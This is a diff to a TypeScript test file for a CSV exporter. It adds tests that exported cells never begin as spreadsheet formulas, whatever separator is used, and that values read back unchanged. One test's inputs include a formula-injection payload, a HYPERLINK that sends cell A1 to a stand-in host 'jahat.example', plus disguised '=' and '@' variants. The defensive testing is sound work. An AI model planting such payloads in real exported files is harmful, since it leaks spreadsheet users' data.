@@ -1,8 +1,11 @@
 import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
+import { z } from 'zod';
+import { csvSeparators } from '#contract/fields.ts';
 import { withFirstChunk } from '#server/http/pages/with-first-chunk.ts';
-import { csvStream, csvText } from './csv.ts';
+import { csvTable, csvText } from './csv.ts';
+import { unguardFormulas } from './csv-formulas.ts';
 
 test('a table keeps commas, quotes, lines, moments and things with parts, with a mark for Excel', () => {
   const rows = [
@@ -27,16 +30,47 @@ test('no text of a table is a formula, and a negative number is still a number',
   expect(csvText(['a'], [[-50_000]])).toContain('\r\n-50000\r\n');
 });
 
+test('no spreadsheet finds a formula, at whichever sign it splits the file', () => {
+  const names = [
+    'Sari;=HYPERLINK("http://jahat.example?x="&A1,"klik")',
+    'Budi";"=1+1',
+    "Ani;'\t@SUM(A1)",
+    '\u200B=1+1',
+    '\n=1+1',
+    'a|+62',
+    'a\t-1',
+    '; \u00A0＝1+1',
+  ];
+  const text = csvText(
+    ['a', 'b'],
+    names.map((name) => [name, name]),
+  ).slice(1);
+  for (const cell of text.split(/[,;|\t\r\n]/)) {
+    expect(cell.replace(/^["\s\u200B]+/, '')).not.toMatch(/^[=+\-@＝]/);
+  }
+});
+
 test('what was written is read back as it was, whatever it says', async () => {
-  const cell = fc
-    .string({ unit: 'grapheme', minLength: 1 })
-    .filter((text) => !/^[=+\-@\t\r＝＋－＠]/.test(text));
+  const cell = fc.string({
+    unit: fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom(...`;,|="'+-@\t\r\n `)),
+  });
   await fc.assert(
-    fc.asyncProperty(fc.array(fc.tuple(cell, cell), { maxLength: 20 }), async (rows) => {
-      const text = await new Response(csvStream(['a', 'b'], inTurn(rows))).text();
-      expect(parse(text, { bom: true, record_delimiter: '\r\n' })).toEqual([['a', 'b'], ...rows]);
-      return true;
-    }),
+    fc.asyncProperty(
+      fc.array(fc.tuple(cell, cell), { maxLength: 20 }),
+      fc.constantFrom(...csvSeparators),
+      async (rows, separator) => {
+        const text = await new Response(csvTable(['a', 'b'], inTurn(rows))(separator)).text();
+        const delimiter = separator === 'comma' ? ',' : ';';
+        const read = parse(text, { bom: true, record_delimiter: '\r\n', delimiter });
+        expect(
+          z
+            .array(z.array(z.string()))
+            .parse(read)
+            .map((cells) => cells.map(unguardFormulas)),
+        ).toEqual([['a', 'b'], ...rows]);
+        return true;
+      },
+    ),
   );
 });
 
@@ -48,7 +82,7 @@ test('a long table is streamed in chunks, and cancelling stops the rows', async 
       yield [read];
     }
   }
-  const reader = csvStream(['n'], endless()).getReader();
+  const reader = csvTable(['n'], endless())('comma').getReader();
   await reader.read();
   await reader.read();
   await reader.cancel();
@@ -60,11 +94,11 @@ test('a table that can not be begun fails before its first byte, one that breaks
     for (let n = 0; n < after; n += 1) yield [n];
     throw new Error('the database is gone');
   }
-  await expect(withFirstChunk(csvStream(['n'], broken(0)))).rejects.toThrow('the database is gone');
-  const begun = (await withFirstChunk(csvStream(['n'], broken(600)))).getReader();
+  await expect(withFirstChunk(csvTable(['n'], broken(0))('comma'))).rejects.toThrow('the database is gone');
+  const begun = (await withFirstChunk(csvTable(['n'], broken(600))('comma'))).getReader();
   expect(new TextDecoder().decode((await begun.read()).value)).toMatch(/^n\r\n0\r\n/);
   await expect(begun.read()).rejects.toThrow('the database is gone');
-  const whole = await withFirstChunk(csvStream(['n'], inTurn([[1], [2]])));
+  const whole = await withFirstChunk(csvTable(['n'], inTurn([[1], [2]]))('comma'));
   expect(await new Response(whole).text()).toBe('n\r\n1\r\n2\r\n');
 });
 
